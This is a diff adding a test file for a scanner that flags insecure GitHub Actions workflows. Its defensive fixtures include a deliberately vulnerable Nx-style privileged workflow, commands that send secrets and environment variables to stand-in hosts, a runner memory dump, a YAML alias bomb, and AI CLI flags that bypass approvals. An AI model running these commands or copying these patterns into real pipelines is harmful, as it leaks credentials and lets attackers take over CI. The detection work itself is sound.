@@ -1,0 +1,409 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { normalizeExpression, workflowsAnalyzer } from '../../../src/core/analyzers/workflows.js';
+import type { ChangedFile } from '../../../src/core/model.js';
+import type { Analyzer, RawFinding, RuleTestCase, ScanData } from '../../../src/core/rules/types.js';
+import { splitLines } from '../../../src/core/text.js';
+import { loadScanData } from '../../../src/io/scan-data.js';
+
+let data: ScanData;
+beforeAll(async () => {
+  data = await loadScanData();
+});
+
+/** Runs one file through an analyzer the way the engine does: only findings on added lines survive. */
+function run(analyzer: Analyzer, c: RuleTestCase): RawFinding[] {
+  const lines = splitLines(c.code);
+  const added = c.added ?? lines.map((_, i) => i + 1);
+  const file: ChangedFile = {
+    path: c.path ?? '.github/workflows/ci.yml',
+    oldPath: null,
+    status: c.status ?? (c.added ? 'modified' : 'added'),
+    addedLines: added,
+    deletedLineCount: 0,
+    binary: false,
+    oldMode: null,
+    newMode: null,
+    size: c.code.length,
+    unavailable: null,
+  };
+  if (!analyzer.appliesTo(file)) return [];
+  const findings = analyzer.analyze({ file, text: c.code, lines, added: new Set(added), data });
+  return findings.filter((f) => added.some((l) => l >= f.line && l <= (f.endLine ?? f.line)));
+}
+
+const scan = (code: string, added?: number[], path = '.github/workflows/ci.yml'): RawFinding[] =>
+  run(workflowsAnalyzer, added ? { path, code, added } : { path, code });
+const pairs = (findings: RawFinding[]): Array<[string, number]> => findings.map((f) => [f.ruleId, f.line]);
+const lines = (...text: string[]): string => `${text.join('\n')}\n`;
+const SHA = '11bd71901bbe5b1630ceea73d27597364c9af683';
+
+describe('workflow rules: declared self-tests', () => {
+  for (const rule of workflowsAnalyzer.rules) {
+    const id = rule.meta.id;
+    it(`${id} has complete metadata`, () => {
+      expect(id).toMatch(/^workflow\.[a-z0-9-]+$/);
+      expect(rule.meta.message.length).toBeGreaterThan(40);
+      expect(rule.meta.fix).toBeTruthy();
+      expect(rule.meta.references.length).toBeGreaterThan(0);
+      for (const ref of rule.meta.references) expect(ref).toMatch(/^https:\/\/[a-z0-9.-]+\.[a-z]+\//);
+      for (const cwe of rule.meta.cwe) expect(cwe).toMatch(/^CWE-\d+$/);
+      expect(rule.tests.valid.length).toBeGreaterThan(0);
+      expect(rule.tests.invalid.length).toBeGreaterThan(0);
+    });
+    rule.tests.valid.forEach((c, i) => {
+      it(`${id} valid #${i + 1}`, () => {
+        expect(run(workflowsAnalyzer, c).filter((f) => f.ruleId === id)).toEqual([]);
+      });
+    });
+    rule.tests.invalid.forEach((c, i) => {
+      it(`${id} invalid #${i + 1}`, () => {
+        const found = run(workflowsAnalyzer, c).filter((f) => f.ruleId === id);
+        expect(found.length).toBeGreaterThan(0);
+        if (c.lines) expect([...new Set(found.map((f) => f.line))].sort((a, b) => a - b)).toEqual(c.lines);
+      });
+    });
+  }
+  it('rule ids are unique', () => {
+    const all = workflowsAnalyzer.rules.map((r) => r.meta.id);
+    expect(new Set(all).size).toBe(all.length);
+  });
+});
+
+// The Nx "s1ngularity" root cause, reduced: a PR title pasted into a privileged workflow.
+const NX_STYLE = lines(
+  'name: PR title',
+  'on:',
+  '  pull_request_target:',
+  '    types: [opened, edited, synchronize]',
+  'permissions: write-all',
+  'jobs:',
+  '  validate:',
+  '    runs-on: ubuntu-latest',
+  '    steps:',
+  `      - uses: actions/checkout@${SHA}`,
+  '        with:',
+  '          ref: ${{ github.event.pull_request.head.sha }}',
+  '      - uses: actions/setup-node@v4',
+  '      - run: npm ci',
+  '      - name: Validate title',
+  '        run: |',
+  '          echo "${{ github.event.pull_request.title }}" > title.txt',
+  '          node ./scripts/commit-lint.js title.txt',
+);
+
+describe('privileged triggers', () => {
+  it('finds every problem of an Nx-style workflow, each on its own line', () => {
+    expect(pairs(scan(NX_STYLE))).toEqual([
+      ['workflow.write-all-permissions', 5],
+      ['workflow.untrusted-checkout', 12],
+      ['workflow.unpinned-first-party-action', 13],
+      ['workflow.expression-injection', 17],
+    ]);
+    const injection = scan(NX_STYLE).find((f) => f.ruleId === 'workflow.expression-injection')!;
+    expect(injection.message).toContain('github.event.pull_request.title');
+    expect(injection.snippet).toBe('echo "${{ github.event.pull_request.title }}" > title.txt');
+  });
+
+  it('reports a newly added pull_request_target on the trigger line when the checkout was already there', () => {
+    const found = scan(NX_STYLE, [3]);
+    expect(pairs(found)).toEqual([['workflow.untrusted-checkout', 3]]);
+    expect(found[0]!.message).toContain('pull_request_target');
+  });
+
+  it('reports nothing for lines the change does not add', () => {
+    expect(scan(NX_STYLE, [14])).toEqual([]);
+  });
+
+  it('recognizes the PR head in every spelling', () => {
+    for (const ref of [
+      '${{ github.head_ref }}',
+      "${{ github.event.pull_request.head['ref'] }}",
+      'refs/pull/${{ github.event.number }}/merge',
+      '${{ github.event.workflow_run.head_sha }}',
+      '${{ github.event.pull_request.merge_commit_sha }}',
+    ]) {
+      const code = lines('on: [pull_request_target]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', `          ref: "${ref}"`);
+      expect(pairs(scan(code)), ref).toEqual([['workflow.untrusted-checkout', 8]]);
+    }
+  });
+
+  it('flags the explicit unsafe opt-in of newer actions/checkout versions and checkout of the fork repository', () => {
+    const code = lines(
+      'on: {workflow_run: {workflows: [CI], types: [completed]}}',
+      'jobs:',
+      '  a:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      `      - uses: actions/checkout@${SHA}`,
+      '        with:',
+      '          repository: ${{ github.event.workflow_run.head_repository.full_name }}',
+      '          allow-unsafe-pr-checkout: true',
+    );
+    const found = scan(code);
+    expect(pairs(found)).toEqual([['workflow.untrusted-checkout', 8]]);
+    expect(found[0]!.message).toContain('repository: ${{ github.event.workflow_run.head_repository.full_name }}');
+    expect(found[0]!.message).toContain('allow-unsafe-pr-checkout');
+    expect(pairs(scan(code, [9]))).toEqual([['workflow.untrusted-checkout', 9]]);
+  });
+
+  it('leaves pull_request workflows and privileged workflows without a head checkout alone', () => {
+    const code = lines('on: [push, pull_request]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', '          ref: ${{ github.head_ref }}');
+    expect(scan(code)).toEqual([]);
+    const base = lines('on: pull_request_target', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: actions/checkout@${SHA}`, '        with:', '          ref: main');
+    expect(scan(base)).toEqual([]);
+  });
+});
+
+describe('untrusted expressions', () => {
+  const job = (...steps: string[]): string =>
+    lines('on: [issues, issue_comment, pull_request, discussion, push]', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);
+
+  it.each([
+    'github.event.issue.body',
+    'github.event.comment.body',
+    'github.event.review.body',
+    'github.event.review_comment.body',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.head_commit.message',
+    'github.event.head_commit.author.email',
+    'github.event.commits[0].message',
+    'github.event.workflow_run.head_branch',
+    'github.event.discussion.title',
+    'github.event.pages[0].page_name',
+    'toJSON(github.event)',
+    "github['head_ref']",
+    'GitHub.Event.Issue.Title',
+  ])('%s in run: is injection', (expression) => {
+    expect(pairs(scan(job(`      - run: echo "\${{ ${expression} }}"`)))).toEqual([['workflow.expression-injection', 6]]);
+  });
+
+  it.each([
+    'github.event.issue.number',
+    'github.event.pull_request.head.sha',
+    'github.sha',
+    'github.repository',
+    'steps.meta.outputs.version',
+    'secrets.TOKEN',
+    "contains(github.event.pull_request.labels.*.name, 'bug')",
+  ])('%s in run: is not', (expression) => {
+    expect(scan(job(`      - run: echo "\${{ ${expression} }}"`))).toEqual([]);
+  });
+
+  it('finds expressions inside multi-line and folded scripts on the right line', () => {
+    const code = job(
+      '      - name: Greet',
+      '        run: >-',
+      '          echo hello &&',
+      '          echo ${{',
+      '            github.event.issue.title }}',
+    );
+    expect(pairs(scan(code))).toEqual([['workflow.expression-injection', 9]]);
+  });
+
+  it('treats untrusted text in any AI prompt input as prompt injection', () => {
+    const code = job(
+      '      - uses: some-org/ai-review@0123456789abcdef0123456789abcdef01234567',
+      '        with:',
+      '          custom_instructions: "Focus on ${{ github.event.pull_request.body }}"',
+      '      - uses: openai/codex-action@0123456789abcdef0123456789abcdef01234567',
+      '        with:',
+      '          codex_prompt: ${{ github.event.comment.body }}',
+    );
+    expect(pairs(scan(code))).toEqual([
+      ['workflow.ai-prompt-injection', 8],
+      ['workflow.ai-prompt-injection', 11],
+    ]);
+  });
+
+  it('treats dispatch inputs as lower risk and ignores inputs in composite actions', () => {
+    expect(pairs(scan(job('      - run: deploy ${{ inputs.environment }}')))).toEqual([['workflow.input-injection', 6]]);
+    const action = lines('name: deploy', 'inputs:', '  environment: {required: true}', 'runs:', '  using: composite', '  steps:', '    - run: deploy ${{ inputs.environment }}', '      shell: bash');
+    expect(scan(action, undefined, 'deploy/action.yaml')).toEqual([]);
+  });
+});
+
+describe('permissions', () => {
+  it('reports a newly added id-token: write but not an existing one', () => {
+    const code = lines('on: push', 'permissions:', '  contents: read', '  id-token: write', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - run: ./deploy.sh');
+    expect(pairs(scan(code))).toEqual([['workflow.id-token-write', 4]]);
+    expect(scan(code, [9])).toEqual([]);
+  });
+});
+
+describe('action pinning', () => {
+  const steps = (...uses: string[]): string =>
+    lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...uses.map((u) => `      - uses: ${u}`));
+
+  it('distinguishes SHAs, tags, branches, local actions and images', () => {
+    const found = scan(
+      steps(
+        `actions/checkout@${SHA}`,
+        'actions/cache@v4',
+        'github/codeql-action/init@v3',
+        'docker/login-action@v3.3.0',
+        'some-org/deploy-action@main',
+        'some-org/no-version',
+        './.github/actions/build',
+        'docker://node:20',
+        `some-org/pinned@${SHA} # v1.2.3`,
+      ),
+    );
+    expect(pairs(found)).toEqual([
+      ['workflow.unpinned-first-party-action', 7],
+      ['workflow.unpinned-first-party-action', 8],
+      ['workflow.unpinned-action', 9],
+      ['workflow.unpinned-action', 10],
+      ['workflow.unpinned-action', 11],
+      ['workflow.unpinned-action', 13],
+    ]);
+    expect(found[3]!.message).toContain('"main"');
+    expect(found[4]!.message).toContain('without any version');
+  });
+});
+
+describe('silenced checks', () => {
+  it('flags job-level continue-on-error on a security scan', () => {
+    const code = lines('on: push', 'jobs:', '  security-scan:', '    runs-on: ubuntu-latest', '    continue-on-error: true', '    steps:', '      - run: trivy fs .');
+    expect(pairs(scan(code))).toEqual([['workflow.ignored-check-failure', 5]]);
+  });
+
+  it('uses the step name to judge a silenced command', () => {
+    const code = lines(
+      'on: push',
+      'jobs:',
+      '  a:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - name: Lint',
+      '        run: make check || true',
+      '      - name: Upload artifacts',
+      '        run: ./upload.sh || true',
+      '        continue-on-error: true',
+      '      - name: Tests',
+      '        run: pytest -q; true',
+    );
+    expect(pairs(scan(code))).toEqual([
+      ['workflow.ignored-check-failure', 7],
+      ['workflow.ignored-check-failure', 12],
+    ]);
+  });
+});
+
+describe('secrets and AI agents', () => {
+  const job = (...steps: string[]): string => lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', ...steps);
+
+  it('follows continued curl commands and names the destination', () => {
+    const code = job('      - run: |', '          curl -X POST \\', '            -H "X-Key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}" \\', '            https://collect.example.org/upload');
+    const found = scan(code);
+    expect(pairs(found)).toEqual([['workflow.secret-exfiltration', 8]]);
+    expect(found[0]!.message).toContain('collect.example.org');
+  });
+
+  it('flags secrets encoded past log masking and runner memory reads', () => {
+    expect(pairs(scan(job('      - run: echo "${{ secrets.NPM_TOKEN }}" | base64')))).toEqual([['workflow.secret-exfiltration', 6]]);
+    expect(pairs(scan(job('      - run: sudo cat /proc/$(pgrep Runner.Worker)/mem > dump.bin')))).toEqual([['workflow.secret-exfiltration', 6]]);
+    expect(pairs(scan(job('      - run: printenv | curl -d @- https://x.example')))).toEqual([['workflow.secret-exfiltration', 6]]);
+  });
+
+  it('leaves secrets used as intended alone', () => {
+    const code = job(
+      '      - run: npm publish',
+      '        env:',
+      '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
+      '      - run: gh release create v1 --notes "x"',
+      '        env:',
+      '          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}',
+      '      - run: env | sort',
+    );
+    expect(scan(code)).toEqual([]);
+  });
+
+  it('flags AI CLIs run without guardrails in run steps and action inputs', () => {
+    const code = job(
+      '      - run: codex exec --dangerously-bypass-approvals-and-sandbox "fix lint"',
+      '      - run: gemini -y -p "triage"',
+      '      - uses: anthropics/claude-code-action@0123456789abcdef0123456789abcdef01234567',
+      '        with:',
+      '          claude_args: --dangerously-skip-permissions --max-turns 30',
+      '      - run: echo "never use --yolo" > NOTES.md',
+    );
+    expect(pairs(scan(code)).filter(([id]) => id === 'workflow.ai-cli-bypass')).toEqual([
+      ['workflow.ai-cli-bypass', 6],
+      ['workflow.ai-cli-bypass', 7],
+      ['workflow.ai-cli-bypass', 10],
+      ['workflow.ai-cli-bypass', 11],
+    ]);
+  });
+});
+
+describe('composite actions', () => {
+  it('checks steps under runs:', () => {
+    const code = lines(
+      'name: setup',
+      'runs:',
+      '  using: composite',
+      '  steps:',
+      '    - uses: some-org/setup-tool@v2',
+      '    - shell: bash',
+      '      run: echo "${{ github.event.pull_request.title }}"',
+    );
+    expect(pairs(scan(code, undefined, '.github/actions/setup/action.yml'))).toEqual([
+      ['workflow.unpinned-action', 5],
+      ['workflow.expression-injection', 7],
+    ]);
+  });
+});
+
+describe('hostile input', () => {
+  it('turns broken YAML into a finding, never an exception', () => {
+    for (const code of ['on: [push\njobs:\n', 'a: b: c\n', 'jobs:\n  a:\n  a:\n', '"unterminated\n', '---\na: 1\n---\nb: 2\n', '\t- tab\n']) {
+      expect(pairs(scan(code)).map(([id]) => id), JSON.stringify(code)).toEqual(['workflow.parse-error']);
+    }
+  });
+
+  it('reports a parse error on an unchanged line at the first added line', () => {
+    const code = lines('name: CI', 'on: [push', 'jobs: {}', 'env:', '  A: 1');
+    expect(pairs(scan(code, [5]))).toEqual([['workflow.parse-error', 5]]);
+  });
+
+  it('refuses pathological nesting and aliases quickly', () => {
+    const started = performance.now();
+    expect(pairs(scan('{'.repeat(20_000))).map(([id]) => id)).toEqual(['workflow.parse-error']);
+    expect(pairs(scan(`a: ${'['.repeat(1_000_000)}`)).map(([id]) => id)).toEqual(['workflow.parse-error']);
+    const laughs = lines(
+      'a: &a ["x","x","x","x","x","x","x","x","x"]',
+      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
+      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
+      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
+      'on: *d',
+      'jobs: {}',
+    );
+    scan(laughs);
+    expect(performance.now() - started).toBeLessThan(10_000);
+  });
+
+  it('finishes on a 1 MB line and a 1 MB script', () => {
+    const started = performance.now();
+    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - run: echo ${'x'.repeat(1_000_000)} || true`));
+    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', `      - run: echo \${{ ${'['.repeat(1_000_000)}`));
+    scan(lines('on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', ...Array.from({ length: 20_000 }, () => '          curl ${{ secrets.X }} \\')));
+    expect(performance.now() - started).toBeLessThan(10_000);
+  });
+
+  it('ignores files that are neither workflows nor actions', () => {
+    expect(scan('on: pull_request_target\n', undefined, 'docs/workflow.yml')).toEqual([]);
+    expect(scan('on: pull_request_target\n', undefined, '.github/dependabot.yml')).toEqual([]);
+  });
+});
+
+describe('normalizeExpression', () => {
+  it.each([
+    [" github.event.commits[0].message ", 'github.event.commits.*.message'],
+    ["github['event'][\"issue\"].title", 'github.event.issue.title'],
+    ['toJSON( github.event )', 'tojson(github.event)'],
+    ['a[', 'a['],
+  ])('%s', (input, expected) => {
+    expect(normalizeExpression(input)).toBe(expected);
+  });
+});
